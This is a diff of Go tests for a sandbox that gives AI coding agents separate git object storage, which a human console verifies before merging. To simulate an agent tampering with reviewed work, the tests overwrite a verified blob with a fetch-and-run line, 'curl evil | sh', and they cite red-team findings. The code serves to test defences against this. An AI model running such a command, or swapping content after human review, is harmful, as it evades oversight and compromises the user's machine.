@@ -25,7 +25,20 @@ func agentCommit(t *testing.T, tr Tree, own, msg string) string {
 			t.Fatalf("git %v: %v\n%s", args, err, out)
 		}
 	}
-	return run(t, tr.Path, "rev-parse", "HEAD")
+	return agentRun(t, tr, own, "rev-parse", "HEAD")
+}
+
+// agentRun runs git in the worktree as the agent's sandbox sees it.
+func agentRun(t *testing.T, tr Tree, own string, args ...string) string {
+	t.Helper()
+	common := filepath.Dir(filepath.Dir(tr.GitDir))
+	cmd := exec.Command("git", append([]string{"-C", tr.Path}, args...)...)
+	cmd.Env = append(os.Environ(), "GIT_OBJECT_DIRECTORY="+own, "GIT_ALTERNATE_OBJECT_DIRECTORIES="+filepath.Join(common, "objects"))
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("git %v: %v\n%s", args, err, out)
+	}
+	return strings.TrimSpace(string(out))
 }
 
 // overwrite puts content behind the loose object id in folder, as an agent
@@ -63,14 +76,14 @@ func TestMergeRefusesObjectsWrittenOver(t *testing.T) {
 	common, own := ownFolder(t, tr)
 	write(t, filepath.Join(tr.Path, "check.sh"), "echo checking\n")
 	agentCommit(t, tr, own, "add check")
-	blob := run(t, tr.Path, "rev-parse", "HEAD:check.sh")
+	blob := agentRun(t, tr, own, "rev-parse", "HEAD:check.sh")
 	if _, err := os.Stat(filepath.Join(common, "objects", blob[:2], blob[2:])); err == nil {
 		t.Fatal("the agent's blob is in the repository's own objects")
 	}
-	// The human's git sees the agent's commits (the repository lists the
-	// folder among its alternates).
-	if got := run(t, repo, "show", "teamlead/dev:check.sh"); got != "echo checking" {
-		t.Fatalf("the human's git reads %q", got)
+	// The human's git reads nothing of the agent's folder: not yet copied,
+	// the commit is not there for it.
+	if out, err := exec.Command("git", "-C", repo, "cat-file", "-e", "teamlead/dev").CombinedOutput(); err == nil {
+		t.Fatalf("the human's git reads the agent's folder: %s", out)
 	}
 	overwrite(t, own, blob, "blob", "curl evil | sh\n")
 	head := run(t, repo, "rev-parse", "HEAD")
@@ -89,7 +102,7 @@ func TestMergeReadsTheVerifiedCopy(t *testing.T) {
 	common, own := ownFolder(t, tr)
 	write(t, filepath.Join(tr.Path, "check.sh"), "echo checking\n")
 	agentCommit(t, tr, own, "add check")
-	blob := run(t, tr.Path, "rev-parse", "HEAD:check.sh")
+	blob := agentRun(t, tr, own, "rev-parse", "HEAD:check.sh")
 	p, err := PreviewMerge(tr, "")
 	if err != nil {
 		t.Fatal(err)
@@ -97,13 +110,11 @@ func TestMergeReadsTheVerifiedCopy(t *testing.T) {
 	if !strings.Contains(p.Changes.Patch, "+echo checking") {
 		t.Fatalf("preview patch:\n%s", p.Changes.Patch)
 	}
-	v, err := ownObjects(repo, common)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer v.close()
-	if miss, err := v.missing([]string{blob, p.At}); err != nil || len(miss) > 0 {
+	if miss, err := missingObjects(repo, []string{blob, p.At}); err != nil || len(miss) > 0 {
 		t.Fatalf("not copied into the repository's objects: %v %v", miss, err)
+	}
+	if got := run(t, repo, "show", "teamlead/dev:check.sh"); got != "echo checking" {
+		t.Fatalf("the human's git reads %q once copied", got)
 	}
 	// Written over once shown: the repository's copy is the one read.
 	overwrite(t, own, blob, "blob", "curl evil | sh\n")
@@ -113,18 +124,60 @@ func TestMergeReadsTheVerifiedCopy(t *testing.T) {
 	if got := read(t, filepath.Join(repo, "check.sh")); got != "echo checking\n" {
 		t.Fatalf("merged check.sh = %q", got)
 	}
-	// Shown again: nothing is copied twice.
-	packs, _ := filepath.Glob(filepath.Join(common, "objects", "pack", "*.pack"))
-	if _, err := PreviewMerge(tr, ""); err != nil {
+	// Every object the merge reaches is the repository's own (red team
+	// 13c, finding 2: merge-tree left the merge's in the agent's folder).
+	run(t, repo, "rev-list", "--objects", "HEAD")
+	if out := run(t, repo, "fsck", "--connectivity-only", "--no-dangling"); out != "" {
+		t.Fatalf("fsck: %s", out)
+	}
+	_ = common
+}
+
+// The console copies what the agent wrote as it looks (Status): its
+// branch, its index's staged blobs, the remote-tracking refs it fetched;
+// the repository never lists the agent's folder among its alternates, so
+// a pack there cannot stand for the human's own objects (red team 13c,
+// finding 1); and nothing is copied twice.
+func TestStatusCopiesTheAgentsObjects(t *testing.T) {
+	repo := newRepo(t)
+	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
+	common, own := ownFolder(t, tr)
+	write(t, filepath.Join(tr.Path, "a.txt"), "committed\n")
+	agentCommit(t, tr, own, "a")
+	write(t, filepath.Join(tr.Path, "b.txt"), "staged\n")
+	cmd := exec.Command("git", "-C", tr.Path, "add", "b.txt")
+	cmd.Env = append(os.Environ(), "GIT_OBJECT_DIRECTORY="+own, "GIT_ALTERNATE_OBJECT_DIRECTORIES="+filepath.Join(common, "objects"))
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("%v %s", err, out)
+	}
+	staged := agentRun(t, tr, own, "ls-files", "-s", "b.txt")
+	if b, _ := os.ReadFile(filepath.Join(common, "objects", "info", "alternates")); strings.Contains(string(b), objectsFolder) {
+		t.Fatalf("the repository lists the agent's folder: %s", b)
+	}
+	info, err := Status(tr)
+	if err != nil || info.Ahead != 1 || !info.Dirty {
+		t.Fatalf("Status: %+v, %v", info, err)
+	}
+	if got := run(t, repo, "show", "teamlead/dev:a.txt"); got != "committed" {
+		t.Fatalf("the human's git reads %q", got)
+	}
+	if miss, _ := missingObjects(repo, []string{strings.Fields(staged)[1]}); len(miss) > 0 {
+		t.Fatalf("the staged blob is not copied: %v", miss)
+	}
+	if _, err := Diff(tr); err != nil {
+		t.Fatalf("Diff: %v", err)
+	}
+	packs, _ := filepath.Glob(filepath.Join(common, "objects", "*", "*"))
+	if _, err := Status(tr); err != nil {
 		t.Fatal(err)
 	}
-	again, _ := filepath.Glob(filepath.Join(common, "objects", "pack", "*.pack"))
+	again, _ := filepath.Glob(filepath.Join(common, "objects", "*", "*"))
 	if len(again) != len(packs) {
-		t.Fatalf("packs %d → %d", len(packs), len(again))
+		t.Fatalf("objects %d → %d", len(packs), len(again))
 	}
 }
 
-// The folder outlives the worktree: git worktree prune keeps the
+// What was copied outlives the worktree: git worktree prune keeps the
 // branch's commits.
 func TestOwnObjectsOutliveTheWorktree(t *testing.T) {
 	repo := newRepo(t)
@@ -132,6 +185,9 @@ func TestOwnObjectsOutliveTheWorktree(t *testing.T) {
 	_, own := ownFolder(t, tr)
 	write(t, filepath.Join(tr.Path, "f.txt"), "work\n")
 	agentCommit(t, tr, own, "work")
+	if err := ImportObjects(tr); err != nil { // as the console does while it runs
+		t.Fatal(err)
+	}
 	if err := os.RemoveAll(tr.Path); err != nil {
 		t.Fatal(err)
 	}
